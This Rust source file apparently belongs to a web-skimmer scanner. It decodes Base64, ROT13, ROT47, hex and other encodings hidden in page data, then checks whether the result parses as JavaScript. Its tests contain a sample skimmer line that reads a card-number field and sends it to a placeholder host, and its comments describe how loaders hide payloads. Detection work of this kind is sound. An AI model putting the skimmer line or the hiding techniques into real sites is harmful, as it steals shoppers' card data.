//! Text that is code in disguise. A loader keeps its skimmer where no script inventory looks:
//! Base64 in a `data-` attribute, an HTML comment, a string of a JSON block, a long string
//! in another script file, and runs it from there (`Function(atob(el.dataset.x))()`). What
//! the loader does to it (atob, a reversal, hex) is the common encodings, so the page and the
//! engine try them on stored text and analyse what comes out as code when it is code.
//!
//! A leaf: the page model (page data) and the engine (string literals) both use it.

use base64::Engine as _;

/// Shortest text worth decoding: a skimmer's payload is hundreds of bytes.
pub const MIN_ENCODED: usize = 80;
/// Longest text decoded (a payload is kilobytes, a bundled library a few hundred).
pub const MAX_ENCODED: usize = 2 << 20;
/// Longest text tried in all 93 rotations (a stage 2 is a few kilobytes; a bundle's long
/// SVG or CSS string would cost 93 passes for nothing).
const MAX_ROTATED: usize = 64 << 10;

/// Code found in page data (`text`), and how it was encoded (`Base64`, `reversed Base64`,
/// `ROT13 of Base64`, `shifted Base64`, `rotated characters`, `hex`, `percent-encoding`,
/// `character codes`, `plain`), trying two levels deep (Base64 of hex…) and the words of a
/// labelled text. `plain` only when `allow_plain`: a comment or a data block may hold code
/// as it is.
pub fn decode_code(text: &str, allow_plain: bool) -> Option<(String, String)> {
    decode(text, allow_plain, true)
}

/// Code a script stores in a long string (see `decoders::analyse_stored`): plain, or behind
/// an encoding (Base64, reversed, hex, percent, character codes). Not the ciphers: a
/// bundle's long strings are templates, CSS and data, tens of them per library, and trying
/// 100 rotations of each is what a cold scan would pay for nothing.
pub fn decode_stored(text: &str) -> Option<(String, String)> {
    decode(text, true, false)
}

fn decode(text: &str, allow_plain: bool, ciphers: bool) -> Option<(String, String)> {
    let text = text.trim();
    if text.len() < MIN_ENCODED || text.len() > MAX_ENCODED {
        return None;
    }
    if allow_plain && is_code(text) {
        return Some((text.to_string(), "plain".into()));
    }
    if let Some(found) = decoded(text, ciphers) {
        return Some(found);
    }
    // A payload behind a label (`<!-- build:KGZ1bmN… -->`, `v=2;cfg=KGZ1bmN…`): its words.
    text.split(|c: char| {
        c.is_whitespace() || matches!(c, ':' | ';' | '"' | '\'' | '(' | ')' | '<' | '>' | '&')
    })
    .filter(|w| w.len() >= MIN_ENCODED && w.len() < text.len())
    .take(16)
    .find_map(|w| decoded(w, ciphers))
}

fn decoded(text: &str, ciphers: bool) -> Option<(String, String)> {
    for (first, how1) in decodings(text, ciphers) {
        if is_code(&first) {
            return Some((first, how1.into()));
        }
        for (second, how2) in decodings(&first, ciphers) {
            if is_code(&second) {
                return Some((second, format!("{how1} of {how2}")));
            }
        }
    }
    None
}

/// Every decoding of `text` that gives text: Base64 (standard or URL-safe, padded or not,
/// with line breaks), the same reversed, hex, percent-encoding and a list of character codes.
fn decodings(text: &str, ciphers: bool) -> Vec<(String, &'static str)> {
    let mut out = Vec::new();
    let compact: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    if compact.len() < MIN_ENCODED {
        return out;
    }
    if let Some(t) = base64_text(&compact) {
        out.push((t, "Base64"));
    }
    let reversed: String = compact.chars().rev().collect();
    if let Some(t) = base64_text(&reversed) {
        out.push((t, "reversed Base64"));
    }
    // Base64 behind the cheapest ciphers loaders use on it: ROT13, and every character
    // shifted by a small constant (`String.fromCharCode(c.charCodeAt(0) - 1)`).
    if !ciphers {
        out.extend(plain_decodings(text, &compact));
        return out;
    }
    if let Some(t) = base64_text(&rot13(&compact)) {
        out.push((t, "ROT13 of Base64"));
    }
    for k in [1i32, -1, 2, -2, 3, -3] {
        let shifted: Option<String> = compact
            .chars()
            .map(|c| char::from_u32((c as i32 - k).try_into().ok()?))
            .collect();
        if let Some(t) = shifted.as_deref().and_then(base64_text) {
            out.push((t, "shifted Base64"));
            break;
        }
    }
    // Code itself rotated within the printable characters (ROT47 and its kin: a loader's
    // `String.fromCharCode((c - 33 + k) % 94 + 33)`), tried when the text cannot be Base64.
    if !compact
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
        && text.is_ascii()
        && text.len() <= MAX_ROTATED
    {
        for k in 1..94u8 {
            let rotated: String = text
                .bytes()
                .map(|b| match b {
                    33..=126 => ((b - 33 + k) % 94 + 33) as char,
                    _ => b as char,
                })
                .collect();
            if is_code(&rotated) {
                out.push((rotated, "rotated characters"));
                break;
            }
        }
    }
    out.extend(plain_decodings(text, &compact));
    out
}

/// Hex, percent-encoding and a list of character codes: encodings, no ciphers.
fn plain_decodings(text: &str, compact: &str) -> Vec<(String, &'static str)> {
    let mut out = Vec::new();
    if compact.len().is_multiple_of(2) && compact.bytes().all(|b| b.is_ascii_hexdigit()) {
        let bytes: Vec<u8> = compact
            .as_bytes()
            .chunks_exact(2)
            .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
            .collect();
        if let Ok(t) = String::from_utf8(bytes) {
            out.push((t, "hex"));
        }
    }
    if text.matches('%').count() * 8 >= text.len() {
        let t = percent_encoding::percent_decode_str(text).decode_utf8_lossy();
        if t != text {
            out.push((t.into_owned(), "percent-encoding"));
        }
    }
    if compact
        .bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b',' | b'.' | b'|' | b';'))
    {
        let t: Option<String> = compact
            .split([',', '.', '|', ';'])
            .filter(|p| !p.is_empty())
            .map(|p| p.parse::<u32>().ok().and_then(char::from_u32))
            .collect();
        if let Some(t) = t {
            out.push((t, "character codes"));
        }
    }
    out
}

/// ROT13: each Latin letter 13 places on, everything else as it is (its own inverse).
pub fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

fn base64_text(s: &str) -> Option<String> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    if !s
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='))
    {
        return None;
    }
    let bytes = [STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD]
        .iter()
        .find_map(|e| e.decode(s).ok())?;
    String::from_utf8(bytes).ok()
}

/// Code: it reads as a program ([`looks_like_code`]) and parses as one without an error.
/// Text that only looks like code (a rotation of random Base64 can have calls, dots and
/// `var `, a `text/babel` block has JSX) would otherwise become a script of the page that
/// no parser reads, and an incomplete scan.
pub fn is_code(t: &str) -> bool {
    if !looks_like_code(t) {
        return false;
    }
    let alloc = oxc_allocator::Allocator::default();
    let ret = oxc_parser::Parser::new(&alloc, t, oxc_span::SourceType::script()).parse();
    !ret.panicked && ret.diagnostics.is_empty()
}

/// Whether decoded text reads as a JavaScript program: printable text (no binary, no
/// markup or data first), with calls, statements and a keyword of the language. Cheap on
/// purpose; the engine's parser decides for good, and code that fails to parse is reported
/// by it.
pub fn looks_like_code(t: &str) -> bool {
    if t.len() < MIN_ENCODED / 2 {
        return false;
    }
    let first = t.trim_start().chars().next().unwrap_or(' ');
    // JSON, markup and binary are data.
    if matches!(first, '{' | '[' | '<' | '"') {
        return false;
    }
    let printable = t
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    if printable * 100 < t.chars().count() * 99 {
        return false;
    }
    let calls = t.matches('(').count().min(t.matches(')').count());
    let keyword = ["function", "=>", "var ", "let ", "const ", "return", "new "]
        .iter()
        .any(|k| t.contains(k));
    calls >= 2 && keyword && (t.contains(';') || t.contains('\n')) && t.contains('.')
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;

    const CODE: &str = "(function(){ var d = document.getElementById('cc_number').value; new Image().src = 'https://x.example/?' + d; })();";

    #[test]
    fn finds_code_under_the_common_encodings() {
        let b64 = STANDARD.encode(CODE);
        assert_eq!(
            decode_code(&b64, false).unwrap(),
            (CODE.into(), "Base64".into())
        );
        let rev: String = b64.chars().rev().collect();
        assert_eq!(decode_code(&rev, false).unwrap().1, "reversed Base64");
        let hex: String = CODE.bytes().map(|b| format!("{b:02x}")).collect();
        assert_eq!(decode_code(&hex, false).unwrap().1, "hex");
        let codes: Vec<String> = CODE.chars().map(|c| (c as u32).to_string()).collect();
        assert_eq!(
            decode_code(&codes.join(","), false).unwrap().1,
            "character codes"
        );
        assert_eq!(
            decode_code(&rot13(&b64), false).unwrap().1,
            "ROT13 of Base64"
        );
        let shifted: String = b64
            .chars()
            .map(|c| char::from_u32(c as u32 + 1).unwrap())
            .collect();
        assert_eq!(decode_code(&shifted, false).unwrap().1, "shifted Base64");
        let rot47: String = CODE
            .bytes()
            .map(|b| match b {
                33..=126 => ((b - 33 + 47) % 94 + 33) as char,
                _ => b as char,
            })
            .collect();
        assert_eq!(
            decode_code(&rot47, false).unwrap(),
            (CODE.into(), "rotated characters".into())
        );
        let twice = STANDARD.encode(&hex);
        assert_eq!(decode_code(&twice, false).unwrap().1, "Base64 of hex");
        assert_eq!(decode_code(CODE, true).unwrap().1, "plain");
        let labelled = format!(" build:{b64} ");
        assert_eq!(
            decode_code(&labelled, true).unwrap(),
            (CODE.into(), "Base64".into())
        );
        assert!(decode_code(CODE, false).is_none());
    }

    #[test]
    fn a_rotation_of_random_text_that_only_looks_like_code_is_not_code() {
        // Labelled Base64 of random bytes: some rotation of it has calls, dots and `var `
        // (checked: without the parse this test fails).
        let mut x: u32 = 12345;
        let bytes: Vec<u8> = (0..900)
            .map(|_| {
                x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
                (x >> 16) as u8
            })
            .collect();
        let text = format!(" tpl-cache: {} ", STANDARD.encode(&bytes));
        assert!(decode_code(&text, true).is_none(), "{text}");
    }

    #[test]
    fn data_is_not_code() {
        let json = STANDARD.encode(r#"{"sku":"24-MB01","price":34.0,"options":[1,2,3],"title":"Joust Duffle Bag (black)"}"#);
        assert!(decode_code(&json, false).is_none());
        let png = STANDARD.encode([0x89u8, b'P', b'N', b'G', 0, 0, 0, 13].repeat(20));
        assert!(decode_code(&png, false).is_none());
        let prose = "Free shipping on orders over $50 (excluding bulky items). Returns accepted within 30 days; see the policy page for details.";
        assert!(decode_code(prose, true).is_none());
        let markup = "<div class=\"promo\"><a href=\"/sale\">Sale</a> (today only); new arrivals return soon.</div>";
        assert!(decode_code(markup, true).is_none());
    }
}
